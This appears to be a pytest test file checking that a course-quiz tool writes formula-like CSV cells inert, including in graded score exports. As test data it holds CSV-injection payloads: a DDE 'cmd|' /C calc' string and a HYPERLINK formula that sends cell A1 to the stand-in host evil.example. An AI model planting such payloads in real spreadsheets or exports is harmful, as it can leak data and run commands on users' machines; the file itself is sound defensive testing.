"""CSV injection: cells a spreadsheet would run as formulas are written inert."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from click.testing import CliRunner

from course.cli import cli
from course.quiz.csv_safe import plain_cell, safe_cell
from course.quiz.grading import write_csv


@pytest.mark.parametrize(("cell", "written"), [
    ('=HYPERLINK("http://x.example","y")', '\'=HYPERLINK("http://x.example","y")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("  =1+1", "'  =1+1"),
    ("\uff1d1+1", "'\uff1d1+1"),  # a full-width equals sign
    ("-", "'-"),
])
def test_formula_cells_get_a_leading_quote(cell: str, written: str) -> None:
    assert safe_cell(cell) == written
    assert plain_cell(written) == cell


@pytest.mark.parametrize("cell", ["-12.5", "+3", "-0.25", "1e-05", "-7", "12", "p-1", "a=b",
                                  "", "'quoted", "محمد", "q1"])
def test_numbers_and_plain_text_stay_as_they_are(cell: str) -> None:
    assert safe_cell(cell) == cell
    assert plain_cell(cell) == cell


def test_write_csv_makes_every_cell_safe(tmp_path: Path) -> None:
    target = tmp_path / "items.csv"
    write_csv(target, [["question", "discrimination"], ["=1+1", "-12.5"], ["q2", "-3"]])
    with target.open(encoding="utf-8-sig", newline="") as handle:
        assert list(csv.reader(handle)) == [["question", "discrimination"],
                                            ["'=1+1", "-12.5"], ["q2", "-3"]]


def test_grade_writes_a_hostile_participant_id_inert(good_project: Path) -> None:
    build = CliRunner().invoke(cli, ["build", "--project", str(good_project), "--only", "quiz",
                                     "--format", "docx", "--lang", "ar", "--jobs", "1"])
    assert build.exit_code == 0, build.stderr
    responses = good_project / "responses.csv"
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with responses.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["participant", "version", "1", "2", "3", "4", "5", "6"])
        writer.writerow([hostile, "A", "a", "T", "", "", "", ""])
        writer.writerow(["@p2", "A", "", "", "", "", "", ""])
    result = CliRunner().invoke(cli, ["grade", str(responses), "--quiz", "sample",
                                      "--project", str(good_project), "--lang", "ar"])
    assert result.exit_code == 0, result.stderr
    out = good_project / "output" / "grades" / "ar" / "sample"
    with (out / "scores.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert [row[0] for row in rows] == ["participant", "'" + hostile, "'@p2"]
    assert rows[1][1:3] == ["A", "3"]  # q1 (2 points) and q2 (1 point) right: numbers stay
